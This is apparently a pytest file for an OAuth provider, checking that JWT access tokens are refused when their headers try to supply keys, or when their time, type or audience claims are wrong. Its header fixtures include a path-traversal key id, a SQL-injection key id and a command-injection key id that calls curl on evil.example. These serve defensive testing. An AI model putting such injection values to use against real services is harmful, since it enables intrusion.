"""An access token's header chooses neither key nor algorithm, and its times are judged (RFC 8725, ASVS 9.1 and 9.2)."""

import time
from typing import Any

import httpx2
import pytest
from fastapi import FastAPI
from joserfc import jwt
from joserfc.jwk import ECKey, KeySet

from app.core.db import Database
from app.identity.provider.keys import key_ring
from app.settings import Settings
from tests.support.oauth import Pkce, allow, make_client, redeem
from tests.support.people import make_person, sign_in

STRANGER = ECKey.generate_key("P-256")
HEADERS: dict[str, dict[str, Any]] = {
    "its own key": {"jwk": STRANGER.as_dict(private=False)},
    "a set of keys elsewhere": {"jku": "https://evil.example/jwks"},
    "a certificate elsewhere": {"x5u": "https://evil.example/cert.pem"},
    "a certificate of its own": {"x5c": ["MIIB"]},
    "a path for a key": {"kid": "../../../../dev/null"},
    "a statement for a key": {"kid": "x' UNION SELECT 'AA=='--"},
    "a command for a key": {"kid": "x; curl https://evil.example"},
    "an address for a key": {"kid": "https://evil.example/key"},
    "a long name for a key": {"kid": "k" * 4000},
}


@pytest.fixture
async def good(
    app: FastAPI, client: httpx2.AsyncClient, database: Database, settings: Settings
) -> dict[str, Any]:
    """The claims of a good access token."""
    web = await make_client(database, settings)
    await sign_in(client, app, await make_person(database, settings))
    pkce = Pkce()
    tokens = await redeem(client, web, (await allow(client, web.client_id, pkce))["code"], pkce)
    client.cookies.clear()
    keys = KeySet.import_key_set((await client.get("/oauth/jwks")).json())
    return dict(jwt.decode(tokens.json()["access_token"], keys, ["ES256"]).claims)


async def shown(
    client: httpx2.AsyncClient, header: dict[str, Any], claims: dict[str, Any], key: ECKey
) -> int:
    header = {"alg": "ES256", "typ": "at+jwt"} | header
    token = jwt.encode(header, claims, key, ["ES256"])
    return (await client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})).status_code


async def test_the_good_token_is_good(app: FastAPI, client: httpx2.AsyncClient, good: dict[str, Any]) -> None:
    key = await key_ring(app).signing()
    assert await shown(client, {"kid": key.kid}, good, key) == 200


@pytest.mark.parametrize("trick", HEADERS)
async def test_a_header_brings_no_key(
    app: FastAPI, client: httpx2.AsyncClient, good: dict[str, Any], trick: str
) -> None:
    ours = (await key_ring(app).signing()).kid
    assert await shown(client, HEADERS[trick], good, STRANGER) == 401
    assert await shown(client, {"kid": ours} | HEADERS[trick], good, STRANGER) == 401


@pytest.mark.parametrize(
    "times",
    [
        {"nbf": 3600},
        {"exp": -1},
        {"iat": 3600, "nbf": 3600},
    ],
)
async def test_a_token_counts_within_its_times_only(
    app: FastAPI, client: httpx2.AsyncClient, good: dict[str, Any], times: dict[str, int]
) -> None:
    key = await key_ring(app).signing()
    moved = {name: int(time.time()) + seconds for name, seconds in times.items()}
    assert await shown(client, {"kid": key.kid}, good | moved, key) == 401


@pytest.mark.parametrize("kind", ["JWT", "id_token+jwt", "logout+jwt", "dpop+jwt", "oauth-authz-req+jwt", ""])
async def test_a_token_of_another_kind_is_no_access_token(
    app: FastAPI, client: httpx2.AsyncClient, good: dict[str, Any], kind: str
) -> None:
    key = await key_ring(app).signing()
    assert await shown(client, {"kid": key.kid, "typ": kind}, good, key) == 401


@pytest.mark.parametrize(
    "audience", ["https://other.example", ["https://other.example"], "", [], "http://testserver.evil.example"]
)
async def test_a_token_for_another_service_is_refused(
    app: FastAPI, client: httpx2.AsyncClient, good: dict[str, Any], audience: str | list[str]
) -> None:
    key = await key_ring(app).signing()
    assert await shown(client, {"kid": key.kid}, good | {"aud": audience}, key) == 401
